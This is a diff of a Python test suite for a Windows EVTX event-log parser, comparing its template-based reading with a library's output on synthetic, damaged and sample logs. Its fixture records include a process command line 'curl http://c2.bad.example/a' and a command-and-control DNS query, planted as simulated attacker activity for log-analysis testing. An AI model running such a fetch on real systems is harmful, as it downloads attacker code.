@@ -1,30 +1,119 @@
-"""EVTX files as Windows writes them, whose records are instances of templates."""
+"""EVTX files as Windows writes them, whose records are instances of templates: read without the library, with the same result as with it."""
 
 from __future__ import annotations
 
 import io
+import json
+import random
+import struct
+from collections.abc import Iterator, Sequence
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
+from lamsach.logs import evtx_events, evtx_library
 from lamsach.logs.base import FileContext
+from lamsach.logs.evtx_chunks import CHUNK_BYTES, RECORDS_START, chunks
+from lamsach.logs.evtx_events import LEFT, EventMaker
+from lamsach.logs.evtx_library import library_texts, some_library_texts
+from lamsach.logs.evtx_plans import READS, Head, plan_of
+from lamsach.logs.evtx_templates import UNUSUAL, Names, Template, Templates, UnusualError
+from lamsach.logs.evtx_values import value
 from lamsach.logs.formats.evtx import Evtx
-from lamsach.model import Event
+from lamsach.logs.windows_record import WindowsRecord
+from lamsach.model import Event, Refusal
 
 from .evtx_builder import file
-from .evtx_template_builder import BOOL, Record, strings, template_chunk
+from .evtx_template_builder import (
+    ANSI,
+    BOOL,
+    FILETIME,
+    FIRST_TIME,
+    GUID,
+    HEX64,
+    SID,
+    STRING,
+    UINT16,
+    UINT32,
+    Record,
+    resealed,
+    strings,
+    template_chunk,
+    text,
+)
+from .whole_logs import at_once, by_line
+
+SAMPLES = Path(__file__).parents[2] / ".." / "shared" / "samples" / "evtx" / "files"
+SECURITY = "Microsoft-Windows-Security-Auditing"
 
 
-def events_of(*records: Record) -> list[Event]:
-    found = list(Evtx(FileContext("a.evtx")).read(io.BytesIO(file(template_chunk(records)))))
-    assert all(isinstance(item, Event) for item in found)
-    return [item for item in found if isinstance(item, Event)]
+def items_of(data: bytes) -> list[Event | Refusal]:
+    return list(Evtx(FileContext("a.evtx")).read(io.BytesIO(data)))
 
 
-def connection(initiated: bool, source: str = "192.168.56.1", **more: str) -> Record:
-    ends = strings(
-        SourceIp=source, SourcePort="52543", DestinationIp="192.168.56.101", DestinationPort="3389", **more
+def by_library(data: bytes) -> list[Event | Refusal]:
+    """What the library alone gives."""
+    reader = Evtx(FileContext("a.evtx"))
+    texts = [one for chunk in chunks(io.BytesIO(data)) for one in library_texts(chunk)]
+    return [reader.item(one, number) for number, one in enumerate(texts, 1)]
+
+
+def left_of(chunk: bytes) -> list[int]:
+    """Which records of a chunk are left to the library."""
+    records, _ = EventMaker(Evtx(FileContext("a.evtx")).event).read([chunk])
+    return [at for at, code in enumerate(records.codes.tolist()) if code == LEFT]
+
+
+def connection(initiated: bool, source: str = "192.168.56.1", port: int = 52543, **more: str) -> Record:
+    ends = strings(SourceIp=source, DestinationIp="192.168.56.101", DestinationPort="3389", **more)
+    flag = ("Initiated", BOOL, initiated.to_bytes(4, "little"))
+    return Record(3, [flag, ("SourcePort", UINT16, port.to_bytes(2, "little")), *ends])
+
+
+def filtered(number: int, port: str, source: str = "10.0.2.17") -> Record:
+    """An event of the filtering platform, whose ports are text."""
+    data = strings(Application="\\device\\a.exe", Direction="%%14593", SourceAddress=source, SourcePort=port,
+                   DestAddress="203.0.113.9", DestPort="443", Protocol="6")  # fmt: skip
+    return Record(number, data, SECURITY, "Security")
+
+
+def some_record(chance: random.Random) -> Record:
+    """An event of one of the kinds that logs are full of."""
+    user = chance.choice(["UNIT\\an", "NT AUTHORITY\\SYSTEM", "", "PC-17$", "Đặng Ân", 'a"b'])
+    process = ("ProcessGuid", GUID, chance.randbytes(16)), ("ProcessId", UINT32, chance.randbytes(4))
+    written = ("UtcTime", *text("2026-06-10 16:00:00.123"))
+    digests = f"MD5={chance.randbytes(16).hex().upper()},SHA256={chance.randbytes(32).hex()}"
+    ports = chance.choice(["0", "443", str(chance.randrange(65536)), "", "no"])
+    kinds = [
+        lambda: connection(chance.random() < 0.5, chance.choice(["10.1.1.5", "::1", "fe80::1"]), chance.randrange(65536), User=user),
+        lambda: filtered(chance.choice([5156, 5157, 5158]), ports),
+        lambda: Record(7, [written, *process, *strings(ImageLoaded="C:\\a.dll", Hashes=digests, User=user)]),
+        lambda: Record(1, [written, *process, *strings(CommandLine="curl http://c2.bad.example/a", Hashes=digests, User=user)]),
+        lambda: Record(22, [written, *process, *strings(QueryName="bot-c2.xyz", QueryResults="::ffff:192.0.2.1;", User=user)]),
+        lambda: Record(13, [written, *process, *strings(TargetObject="HKLM\\a", Details="http://203.0.113.7/b")]),
+        lambda: Record(4624, [("SubjectUserSid", SID, bytes.fromhex("010100000000000512000000")), ("LogonId", HEX64, chance.randbytes(8)),
+                              *strings(TargetUserName=user, IpAddress=chance.choice(["192.0.2.7", "-", "10.1.1.9"]), IpPort=ports,
+                                       WorkstationName="PC-17")], SECURITY, "Security"),
+        lambda: Record(900, [written, ("At", FILETIME, struct.pack("<Q", FIRST_TIME)), *strings(Text="see http://x.bad.example/")], "Other", "Application"),
+        lambda: Record(901, strings(a="1", b="http://x.bad.example/"), "Other", "Application", unnamed=True),
+        lambda: Record(902, strings(url="http://x.bad.example/"), "Other", "Other/Operational", inner="UserData"),
+        lambda: Record(903, strings(url="http://x.bad.example/", Ip="192.0.2.1"), "Other", "Other/Operational", optional=True),
+    ]  # fmt: skip
+    return replace(
+        chance.choice(kinds)(),
+        computer=chance.choice(["PC-AN", "PC-MINH", "PC-Ân", 'PC"1']),
+        literal=chance.random() < 0.5,
+        time=FIRST_TIME + chance.randrange(10**10),
     )
-    return Record(3, [("Initiated", BOOL, initiated.to_bytes(4, "little")), *ends])
+
+
+def some_log(seed: int, count: int = 3) -> bytes:
+    chance = random.Random(seed)
+    return file(*(template_chunk([some_record(chance) for _ in range(40)]) for _ in range(count)))
 
 
 @pytest.mark.parametrize(
@@ -32,5 +121,273 @@ def connection(initiated: bool, source: str = "192.168.56.1", **more: str) -> Re
 )
 def test_who_opened_a_connection_is_a_truth_value(initiated: bool, inbound: bool, device: str) -> None:
     """Sysmon's schema: `Initiated` is a Boolean, which the library gives as one; without it the far machine would be blamed."""
-    (event,) = events_of(connection(initiated))
-    assert (event.inbound, event.device_ip) == (inbound, device)
+    data = file(template_chunk([connection(initiated)]))
+    for (event,) in (items_of(data), by_library(data)):
+        assert isinstance(event, Event)
+        assert (event.inbound, event.device_ip) == (inbound, device)
+
+
+def test_usual_records_need_no_library(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(evtx_library, "_all_of", None)
+    data = file(template_chunk([connection(True, port=1), connection(True, port=2), filtered(5156, "3")]))
+    events = items_of(data)
+    assert [event.source_port for event in events if isinstance(event, Event)] == [1, 2, 3]
+    assert [event.line for event in events if isinstance(event, Event)] == [1, 2, 3]
+
+
+@pytest.mark.parametrize("seed", range(8))
+def test_the_same_as_by_the_library(seed: int, tmp_path: Path) -> None:
+    path = tmp_path / "a.evtx"
+    path.write_bytes(some_log(seed))
+    assert items_of(path.read_bytes()) == by_library(path.read_bytes())
+    assert at_once(path) == by_line(path)
+
+
+def test_every_time_is_read_to_the_microsecond() -> None:
+    (event,) = items_of(file(template_chunk([Record(5, strings(User="an"), time=FIRST_TIME + 19)])))
+    assert isinstance(event, Event)
+    assert str(event.time) == "2026-06-10 16:00:00.000001+00:00"
+
+
+def test_what_differs_in_time_and_carried_ports_alone_is_made_once() -> None:
+    maker = EventMaker(Evtx(FileContext("a.evtx")).event)
+    same = [replace(connection(True, port=port), time=FIRST_TIME + port) for port in range(50)]
+    maker.read([template_chunk([*same, *(filtered(5156, str(port)) for port in range(50))])])
+    assert len(maker.events) == 2
+    maker.read([template_chunk([connection(False, port=port) for port in range(50)])])
+    assert len(maker.events) == 52
+
+
+UNUSUAL_RECORDS = {
+    "data without names": Record(900, strings(a="1"), unnamed=True),
+    "data in another element": Record(900, strings(a="1"), inner="UserData"),
+    "no data": Record(900, []),
+    "one name twice": Record(900, [("A", *text("1")), ("A", *text("2"))]),
+    "a kind that Windows has not": Record(900, [("A", ANSI, b"text")], "Other", "Application"),
+    "a name with a quotation mark": Record(900, strings(A="1"), computer='PC"', literal=False),
+    "a name with a backslash": Record(900, strings(A="1"), provider="A\\B"),
+    "half a surrogate pair": Record(900, [("A", STRING, b"\x00\xd8")], "Other", "Application"),
+    "an endless name": Record(900, strings(A="1"), channel="a" * 2000),
+    "a truth value of three": Record(3, [("Initiated", BOOL, b"\3\0\0\0")]),
+    "more values than usual": Record(900, strings(**{f"a{at}": "1" for at in range(70)})),
+}
+
+
+@pytest.mark.parametrize("record", UNUSUAL_RECORDS.values(), ids=UNUSUAL_RECORDS)
+def test_what_is_unusual_is_left_to_the_library(record: Record) -> None:
+    usual = connection(True)
+    chunk = template_chunk([usual, record, usual])
+    assert left_of(chunk) == [1]
+    assert items_of(file(chunk)) == by_library(file(chunk))
+
+
+@pytest.mark.parametrize("number", [0, 2])
+def test_a_time_far_away_is_left_to_the_library(number: int) -> None:
+    records = [connection(True)] * 3
+    records[number] = replace(records[number], time=0)
+    chunk = template_chunk(records)
+    assert left_of(chunk) == [number]
+    assert items_of(file(chunk)) == by_library(file(chunk))
+
+
+@pytest.mark.parametrize("count", [1, 5, 6, 7, 30])
+def test_single_records_by_the_library(count: int) -> None:
+    """A few are read alone, many with all that stand between them."""
+    chunk = template_chunk([Record(900, strings(a=str(at)), unnamed=True) for at in range(40)])
+    places = [RECORDS_START]
+    while len(places) <= 40:
+        places.append(places[-1] + int(struct.unpack_from("<I", chunk, places[-1] + 4)[0]))
+    which = sorted(random.Random(count).sample(range(40), count))
+    assert some_library_texts(chunk, places, which) == [library_texts(chunk)[at] for at in which]
+
+
+VALUES = {
+    STRING: ["", "a", "a\0", "\0", "a\0b", " a ", "\n", "\x01", "é😀", "\ufeffa", "\uffff"],
+    3: [b"\xff"], 4: [b"\xff"], 5: [b"\xff\xff"], 6: [b"\xff\xfe"], 7: [b"\xff" * 4], 8: [b"\xff" * 4],
+    9: [b"\xff" * 8], 10: [b"\xff" * 8],
+    14: [b"", b"\x01\xab"], 15: [bytes(range(16)), bytes(16)],
+    17: [struct.pack("<Q", FIRST_TIME + 19), struct.pack("<Q", 116_444_736_000_000_000)],
+    19: [bytes.fromhex("010100000000000512000000"), bytes.fromhex("0102000000000005150000000102030f")],
+    20: [bytes(4), b"\x0a\0\0\0", b"\xff" * 4], 21: [bytes(8), b"\xff" * 8],
+    0: [b""],
+}  # fmt: skip
+
+
+def test_values_are_spelled_as_by_the_library() -> None:
+    cases = [
+        (kind, data.encode("utf-16-le") if isinstance(data, str) else data)
+        for kind, values in VALUES.items()
+        for data in values
+    ]
+    chunk = template_chunk([Record(900, [("A", kind, data), *strings(B="")]) for kind, data in cases])
+    for (kind, data), found in zip(cases, library_texts(chunk), strict=True):
+        spelled = json.loads(found or "")["Event"]["EventData"]["A"]
+        assert value(kind, data) == str(spelled), (kind, data)
+
+
+@pytest.mark.parametrize(
+    "kind, data", [(6, b"\1"), (13, b"\2\0\0\0"), (15, b"1"), (19, bytes(8)), (19, b"\1\2" + bytes(10)), (17, b"\xff" * 8), (2, b"a"), (129, b"a\0")]
+)  # fmt: skip
+def test_other_values_are_not_read(kind: int, data: bytes) -> None:
+    with pytest.raises(UnusualError):
+        value(kind, data)
+
+
+def names_at(chunk: bytes, name: str) -> Iterator[int]:
+    """Where a name stands."""
+    wanted, at = name.encode("utf-16-le"), -1
+    while (at := chunk.find(wanted, at + 1)) >= 0:
+        yield at
+
+
+def test_a_definition_is_told_by_all_that_it_holds_not_by_its_number() -> None:
+    """One GUID, two layouts: a datum that is called otherwise, and an element's name that stands elsewhere in the chunk."""
+    chunk = template_chunk([connection(True, User="UNIT\\an")])
+    assert items_of(file(chunk)) == by_library(file(chunk))
+    renamed = bytearray(chunk)
+    for old, new in (("User", "Usex"), ("Data", "Daxa"), ("SourceIp", "DestinIp"), ("Channel", "Chammel")):
+        for at in names_at(chunk, old):
+            renamed = bytearray(chunk)
+            renamed[at : at + 2 * len(new)] = new.encode("utf-16-le")
+            other = file(resealed(bytes(renamed)))
+            assert items_of(other) == by_library(other), old
+
+
+def test_few_definitions_are_kept() -> None:
+    """However little may be kept, and whatever else was read in between, each definition means the same."""
+    kept, scarce = Templates(), Templates(1)
+    for at in range(40):
+        chunk = template_chunk(
+            [Record(5, strings(**{f"A{at % 20}": "1", "User": "an"}), computer=f"PC-{at}")]
+        )
+        place = struct.unpack_from("<I", chunk, RECORDS_START + 34)[0]
+        first, second = (templates.at(chunk, place, Names(chunk)) for templates in (kept, scarce))
+        assert (first.kinds, first.system) == (second.kinds, second.system)
+        assert first.system is not None
+        assert first.system.computer == f"PC-{at}"
+    assert len(scarce._layouts) == 1
+    assert max(map(len, kept._layouts.values())) <= 16
+
+
+@pytest.mark.parametrize("place", [0, -5, CHUNK_BYTES - 3, CHUNK_BYTES, 1 << 31])
+def test_a_definition_elsewhere_is_none(place: int) -> None:
+    chunk = template_chunk([connection(True)])
+    assert Templates().at(chunk, place, Names(chunk)) is UNUSUAL
+
+
+def test_records_without_bodies_end() -> None:
+    """As many records as a chunk can hold, of heads alone."""
+    count = (CHUNK_BYTES - RECORDS_START) // 32
+    chunk = bytearray(template_chunk([connection(True)]))
+    for at in range(count):
+        head = struct.pack("<4sIQQ", b"\x2a\x2a\0\0", 32, at, FIRST_TIME)
+        chunk[RECORDS_START + 32 * at : RECORDS_START + 32 * at + 32] = (
+            head + bytes(4) + struct.pack("<I", 32)
+        )
+    struct.pack_into("<II", chunk, 44, RECORDS_START, RECORDS_START + 32 * count)
+    data = file(resealed(bytes(chunk)))
+    assert items_of(data) == by_library(data)
+
+
+@pytest.mark.parametrize("seed", range(20))
+def test_damage_without_right_checksums_is_read_as_before(seed: int) -> None:
+    chance = random.Random(seed)
+    data = bytearray(some_log(seed, 2))
+    for _ in range(chance.choice((1, 5, 60))):
+        data[chance.randrange(4096, 4096 + CHUNK_BYTES)] = chance.randrange(256)
+    assert items_of(bytes(data)) == by_library(bytes(data))
+
+
+@settings(max_examples=150, deadline=None)
+@given(
+    st.integers(0, 3),
+    st.lists(st.tuples(st.integers(512, 12000), st.binary(min_size=1, max_size=4)), min_size=1, max_size=8),
+)
+def test_damage_under_right_checksums_gives_no_less(seed: int, changes: Sequence[tuple[int, bytes]]) -> None:
+    """Whoever changes a log may compute the checksums too."""
+    data = bytearray(template_chunk([some_record(random.Random(seed + at)) for at in range(12)]))
+    for place, new in changes:
+        data[place : place + len(new)] = new
+    damaged = file(resealed(bytes(data)))
+    found, before = items_of(damaged), by_library(damaged)
+    assert len(found) >= len(before)
+    assert sum(isinstance(item, Event) for item in found) >= sum(isinstance(item, Event) for item in before)
+
+
+class _Asked(dict[str, str]):
+    """Data that note what they are asked for."""
+
+    def __init__(self, data: dict[str, str]) -> None:
+        super().__init__(data)
+        self.asked: set[str] = set()
+
+    def __getitem__(self, name: str) -> str:
+        self.asked.add(name)
+        return super().__getitem__(name)
+
+    def get(self, name: str, default: Any = None) -> Any:
+        self.asked.add(name)
+        return super().get(name, default)
+
+
+@settings(max_examples=40, deadline=None)
+@given(st.data())
+def test_readers_ask_for_no_more_than_is_said(data: st.DataObject) -> None:
+    """Else two events that differ in what was forgotten would be taken for one."""
+    for reader, names in READS.items():
+        values = st.sampled_from(
+            [
+                "",
+                "-",
+                "192.0.2.1",
+                "10.0.0.1:5",
+                "443",
+                "true",
+                "false",
+                "an",
+                "PC-1$",
+                "http://a.example/",
+                "0x12",
+            ]
+        )
+        told = _Asked(data.draw(st.dictionaries(st.sampled_from(sorted(names)), values, max_size=8)))
+        number = data.draw(st.sampled_from([1, 3, 22, 3008, 4624, 4768, 4776, 5140, 5156, 5157, 6272]))
+        reader(WindowsRecord(number, "P", "C", "PC", None, told))
+        assert told.asked <= names
+
+
+@pytest.mark.parametrize(
+    "head, names, key",
+    [
+        (Head(3, "Microsoft-Windows-Sysmon", "S", None), ("UtcTime", "User", "Image", "Protocol"), (1,)),
+        (
+            Head(11, "Microsoft-Windows-Sysmon", "S", None),
+            ("UtcTime", "Image", "TargetFilename", "User"),
+            (3,),
+        ),
+        (Head(4624, SECURITY, "Security", None), ("SubjectUserName", "LogonGuid", "IpAddress"), (0, 2)),
+        (Head(9, "Other", "Application", None), ("A", "B"), (0, 1)),
+        (Head(9, "Other", "Application", None), ("A", "Url"), (0, 1)),
+    ],
+)
+def test_only_what_is_asked_for_tells_events_apart(
+    head: Head, names: tuple[str, ...], key: tuple[int, ...]
+) -> None:
+    template = Template((STRING,) * len(names), data=tuple((name, at) for at, name in enumerate(names)))
+    found = plan_of(head, template).key
+    assert found is not None
+    assert tuple(index for index in found if index >= 0) == key
+
+
+def test_what_was_made_is_forgotten_in_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(evtx_events, "_KEPT", 5)
+    path = tmp_path / "a.evtx"
+    path.write_bytes(some_log(3, 4))
+    assert items_of(path.read_bytes()) == by_library(path.read_bytes())
+    assert at_once(path) == by_line(path)
+
+
+@pytest.mark.skipif(not SAMPLES.is_dir(), reason="the samples are not there")
+def test_samples() -> None:
+    for path in sorted(SAMPLES.glob("*.evtx")):
+        assert items_of(path.read_bytes()) == by_library(path.read_bytes()), path.name
